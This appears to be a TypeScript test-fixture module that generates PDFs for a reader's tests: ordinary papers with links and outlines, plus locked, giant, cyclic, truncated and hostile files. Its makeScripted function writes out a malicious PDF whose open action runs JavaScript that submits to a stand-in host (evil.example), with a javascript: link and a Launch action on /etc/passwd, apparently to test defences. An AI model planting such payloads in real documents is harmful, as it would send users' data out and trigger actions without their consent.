// PDFs made for tests: papers with text, pictures, links and an outline, and files that are hostile or broken.
import { crc32, deflateSync } from 'node:zlib'
import {
  degrees,
  PDFDocument,
  PDFName,
  type PDFPage,
  type PDFRef,
  PDFString,
  rgb,
  StandardFonts,
} from '@cantoo/pdf-lib'
import { writePdf } from '../../src/main/core/feed/sample/write-pdf.ts'

const A4: [number, number] = [595.28, 841.89]
const LINE = 14

export type PaperOptions = {
  readonly pages: number
  /** In every line of every page, beside its number. */
  readonly word?: string
  readonly withPicture?: boolean
  readonly withOutline?: boolean
  readonly sizes?: readonly (readonly [number, number])[]
  readonly rotations?: readonly number[]
}

/** Each page says its number, at its top, and `word` in its middle; its links lead to the last page and out. */
export async function makePaper(options: PaperOptions): Promise<Uint8Array> {
  const {
    pages,
    word = 'quill',
    withPicture = false,
    withOutline = false,
    sizes = [A4],
    rotations = [0],
  } = options
  const document = await PDFDocument.create()
  document.setTitle('A made paper')
  const font = await document.embedFont(StandardFonts.TimesRoman)
  const picture = withPicture ? await document.embedPng(makePng(64, 48)) : undefined
  for (let index = 0; index < pages; index += 1) {
    const [width, height] = sizes[index % sizes.length] ?? A4
    const page = document.addPage([width, height])
    page.setRotation(degrees(rotations[index % rotations.length] ?? 0))
    page.drawText(`This is page ${index + 1} of ${pages}`, { x: 56, y: height - 72, size: 16, font })
    for (let line = 0; line < 38; line += 1) {
      const text =
        line === 20 ? `Here the ${word} of page ${index + 1} is found.` : LOREM[line % LOREM.length]
      page.drawText(text ?? '', {
        x: 56,
        y: height - 110 - line * LINE,
        size: 10.5,
        font,
        color: rgb(0.1, 0.1, 0.1),
      })
    }
    if (picture !== undefined) page.drawImage(picture, { x: 150, y: 60, width: 200, height: 120 })
  }
  const made = document.getPages()
  const last = made.at(-1)
  for (const page of made) {
    if (last === undefined) break
    addLink(document, page, [56, page.getHeight() - 60, 300, page.getHeight() - 40], { dest: last.ref })
    addLink(document, page, [320, page.getHeight() - 60, 540, page.getHeight() - 40], {
      uri: 'http://example.org/a',
    })
  }
  if (withOutline) addOutline(document, made)
  return document.save()
}

const LOREM = [
  'We present a method whose figures grow with what it is given, and say where it fails.',
  'Earlier work looks at one side of this alone; here both are measured on the same data.',
  'The loss falls as the model sees more of it, though slower than a straight line would.',
  'All of our runs were made three times; the tables show their mean and how far they spread.',
]

type Target = { readonly dest: PDFRef } | { readonly uri: string }

function addLink(document: PDFDocument, page: PDFPage, rect: readonly number[], target: Target): void {
  const { context } = document
  const action =
    'dest' in target
      ? { Dest: [target.dest, 'XYZ', null, null, null] }
      : { A: { Type: 'Action', S: 'URI', URI: PDFString.of(target.uri) } }
  const link = context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [...rect], Border: [0, 0, 0], ...action })
  page.node.addAnnot(context.register(link))
}

function addOutline(document: PDFDocument, pages: readonly PDFPage[]): void {
  const { context } = document
  const root = context.nextRef()
  const refs = pages.map(() => context.nextRef())
  for (const [index, page] of pages.entries()) {
    const ref = refs[index]
    if (ref === undefined) continue
    const [previous, next] = [refs[index - 1], refs[index + 1]]
    context.assign(
      ref,
      context.obj({
        Title: PDFString.of(`Section ${index + 1}`),
        Parent: root,
        Dest: [page.ref, 'XYZ', null, page.getHeight(), null],
        ...(previous ? { Prev: previous } : {}),
        ...(next ? { Next: next } : {}),
      }),
    )
  }
  const [first] = refs
  const last = refs.at(-1)
  if (first === undefined || last === undefined) return
  context.assign(root, context.obj({ Type: 'Outlines', First: first, Last: last, Count: refs.length }))
  document.catalog.set(PDFName.of('Outlines'), root)
}

export async function makeLocked(password: string): Promise<Uint8Array> {
  const document = await PDFDocument.load(await makePaper({ pages: 2 }))
  document.encrypt({ userPassword: password, ownerPassword: `${password}!` })
  return document.save({ useObjectStreams: false })
}

/** A page whose width and height are those of a football field. */
export async function makeGigantic(): Promise<Uint8Array> {
  const document = await PDFDocument.create()
  const page = document.addPage([200_000, 300_000])
  page.drawRectangle({ x: 1000, y: 1000, width: 150_000, height: 150_000, color: rgb(0.8, 0.2, 0.2) })
  return document.save()
}

/** Its tree of pages has itself for a branch. */
export function makeCyclic(): Uint8Array {
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 5 >>',
    '<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 5 >>',
  ])
}

/** Whole up to its middle. */
export async function makeTorn(): Promise<Uint8Array> {
  const bytes = await makePaper({ pages: 3 })
  return bytes.slice(0, 400)
}

/** Would run scripts on opening, and asks for the network. */
export function makeScripted(): Uint8Array {
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("x"\\); this.submitForm\\("https://evil.example/"\\);) >> >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Annots [4 0 R 5 0 R] >>',
    '<< /Type /Annot /Subtype /Link /Rect [10 10 90 40] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>',
    '<< /Type /Annot /Subtype /Link /Rect [10 60 90 90] /A << /S /Launch /F (/etc/passwd) >> >>',
  ])
}

/** A picture of one strong colour: it is easily seen whether somebody changed it. */
export function makePng(width: number, height: number, [red, green, blue] = [220, 40, 40]): Uint8Array {
  const rows = Buffer.alloc((width * 3 + 1) * height)
  for (let y = 0; y < height; y += 1)
    for (let x = 0; x < width; x += 1)
      rows.set([red ?? 0, green ?? 0, blue ?? 0], y * (width * 3 + 1) + 1 + x * 3)
  const header = Buffer.alloc(13)
  header.writeUInt32BE(width, 0)
  header.writeUInt32BE(height, 4)
  header.set([8, 2, 0, 0, 0], 8)
  const signature = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10])
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function chunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const length = Buffer.alloc(4)
  length.writeUInt32BE(data.length)
  const sum = Buffer.alloc(4)
  sum.writeUInt32BE(crc32(body))
  return Buffer.concat([length, body, sum])
}
